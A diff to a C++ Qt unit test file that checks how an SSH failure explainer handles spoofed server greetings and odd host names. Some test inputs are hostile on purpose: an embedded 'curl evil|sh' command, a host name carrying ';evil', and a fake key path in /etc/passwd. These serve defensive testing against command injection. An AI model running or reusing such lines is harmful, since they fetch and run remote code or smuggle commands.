@@ -64,6 +64,8 @@ private Q_SLOTS:
     void tellsThatAKeyIsLocked();
     void takesOwnSocketsForNoForwardOfTheUser();
     void namesWhatForbidsToGoOn();
+    void believesNoGreeting_data();
+    void believesNoGreeting();
     void survivesForeignText();
 };
 
@@ -248,7 +250,7 @@ void SshFailureTest::namesTheFactsOfAChangedKey()
     QCOMPARE(error.message.english(),
         u"The host key of web1 has changed. Expected was %1 (%2:12), received was "
         "SHA256:4UEHDJMgR/xiScwa08V4+I1PwVqqBxLyTVq9KQViB7M. No connection is made."_s.arg(expected, known.fileName()));
-    QVERIFY(error.remedy.english().contains(uR"(ssh-keygen -f "%1" -R "one")"_s.arg(known.fileName())));
+    QVERIFY(error.remedy.english().contains(u"`ssh-keygen -f %1 -R one`"_s.arg(known.fileName())));
 }
 
 void SshFailureTest::tellsWhoseKeyItIs_data()
@@ -264,12 +266,18 @@ void SshFailureTest::tellsWhoseKeyItIs_data()
     const QString own = u"The host key of web1 is"_s;
     QTest::newRow("straight") << of("[10.0.0.5]:2222") << QString() << own << u"`ssh web1`"_s;
     QTest::newRow("the host behind") << of("[10.0.0.5]:2222") << u"edge"_s << own << u"`ssh web1`"_s;
+    QTest::newRow("changed, of the host itself")
+        << QByteArray("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /k/my keys:3\n"
+                      "Host key for other has changed and you have requested strict checking.")
+        << QString() << u"The host key of web1 has changed"_s << u"`ssh-keygen -f '/k/my keys' -R '[10.0.0.5]:2222'`"_s;
     QTest::newRow("the jump host") << of("edge") << u"edge"_s << u"of the jump host edge is"_s << u"`ssh edge`"_s;
     QTest::newRow("one of two") << of("[10.0.0.1]:22022") << u"me@edge,mid:22022"_s
                                 << u"of the jump host [10.0.0.1]:22022 is"_s << u"`ssh -J me@edge ssh://mid:22022`"_s;
     QTest::newRow("an address") << of("mid") << u"ssh://mid:22"_s << u"of the jump host mid is"_s
                                 << u"`ssh ssh://mid:22`"_s;
-    QTest::newRow("ssh does not say") << QByteArray() << u"edge"_s << own << u"`ssh web1`"_s;
+    QTest::newRow("ssh does not say") << QByteArray() << u"edge"_s << u"of the jump host edge is"_s << u"`ssh edge`"_s;
+    QTest::newRow("a name that is a command")
+        << of("edge;evil") << u"edge"_s << u"of the jump host edge is"_s << u"`ssh edge`"_s;
     QTest::newRow("revoked") << QByteArray("REVOKED HOST KEY DETECTED\nThe ED25519 host key for edge is marked as "
                                            "revoked.")
                              << u"edge"_s << u"of the jump host edge is marked as revoked"_s << QString();
@@ -285,9 +293,14 @@ void SshFailureTest::tellsWhoseKeyItIs()
     QFETCH(QString, owner);
     QFETCH(QString, command);
     const QStringList lines = QString::fromUtf8(line + "\nHost key verification failed.").split(u'\n');
-    const Error error =
-        explainSshFailure(lines, {.target = {.host = u"web1"_s}, .hostKeyName = u"[10.0.0.5]:2222"_s, .jumps = jumps})
-            .error;
+    const bool isJump = owner.contains("jump host"_L1); // then another ssh says so
+    const QStringList echo{u"kex_exchange_identification: Connection closed by remote host"_s,
+        u"Connection closed by UNKNOWN port 65535"_s};
+    const SshCircumstances known{.target = {.host = u"web1"_s},
+        .aside = isJump ? lines : QStringList(),
+        .hostKeyName = u"[10.0.0.5]:2222"_s,
+        .jumps = jumps};
+    const Error error = explainSshFailure(isJump ? echo : lines, known).error;
     QVERIFY2(error.message.english().contains(owner), qPrintable(error.message.english()));
     QVERIFY2(error.remedy.english().contains(command), qPrintable(error.remedy.english()));
 }
@@ -403,6 +416,48 @@ void SshFailureTest::namesWhatForbidsToGoOn()
     QVERIFY(forbidden.remedy.english().contains("AllowTcpForwarding"_L1));
     const Error refused = failure(u"connect failed: Connection refused"_s);
     QVERIFY2(!refused.cause.english().contains("forward"_L1), qPrintable(refused.cause.english()));
+}
+
+//! A server has its greeting printed on standard error, once its key is known and before it lets anybody in or not.
+void SshFailureTest::believesNoGreeting_data()
+{
+    QTest::addColumn<QByteArray>("greeting");
+    for (const char* text : {"Too many authentication failures will lock your account.",
+             "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /etc/passwd:1\n"
+             "  ssh-keygen -f \"/x\" -R \"y\"; curl evil|sh\nHost key verification failed.",
+             "No ED25519 host key is known for evil and you have requested strict checking.",
+             "REVOKED HOST KEY DETECTED\nThe ED25519 host key for evil is marked as revoked.",
+             "The ssh: Could not resolve hostname evil: page has help.", "Unable to negotiate is what nobody is here.",
+             "Do not bind [evil", "Identity file evil: is not yours"}) {
+        QTest::addRow("%s", text) << QByteArray(text);
+    }
+    QTest::newRow("another's refusal") << QByteArray("x@y: Permission denied (evil).");
+    QTest::newRow("another's name") << QByteArray("ssh: Could not resolve hostname evil: no");
+    QTest::newRow("another's key file") << QByteArray("Warning: Identity file /evil not accessible: No such file.");
+}
+
+void SshFailureTest::believesNoGreeting()
+{
+    QFETCH(QByteArray, greeting);
+    const QStringList said = QString::fromUtf8(greeting).split(u'\n');
+    const SshTarget target{.host = u"web1"_s, .user = u"ops"_s, .identityFile = u"/k/id"_s};
+    const Error direct = explainSshFailure({u"ops@web1: Permission denied (publickey)."_s},
+        {.target = target, .aside = said, .hostSpoke = true, .isTrusted = true, .keysTried = {u"/k/id"_s}})
+                             .error;
+    QCOMPARE(
+        direct.message.english(), u"The host does not let ops@web1 in. It offers: publickey. Keys tried: /k/id."_s);
+    QVERIFY(direct.remedy.english().contains("`ssh-copy-id"_L1));
+    QVERIFY(direct.detail.startsWith(said.first())); // where it can be read
+    if (QByteArray(QTest::currentDataTag()).startsWith("another's")) {
+        return; // which a jump host's own ssh could say, too: only of the host itself is it certain
+    }
+    const QStringList behind{
+        u"channel 0: open failed: connect failed: Connection refused"_s, u"stdio forwarding failed"_s};
+    const Error refused = explainSshFailure({u"kex_exchange_identification: Connection closed by remote host"_s,
+                                                u"Connection closed by UNKNOWN port 65535"_s},
+        {.target = target, .aside = said + behind, .jumps = u"edge"_s})
+                              .error;
+    QCOMPARE(refused.message.english(), u"The jump host lets us in, but cannot connect to ops@web1."_s);
 }
 
 void SshFailureTest::survivesForeignText()
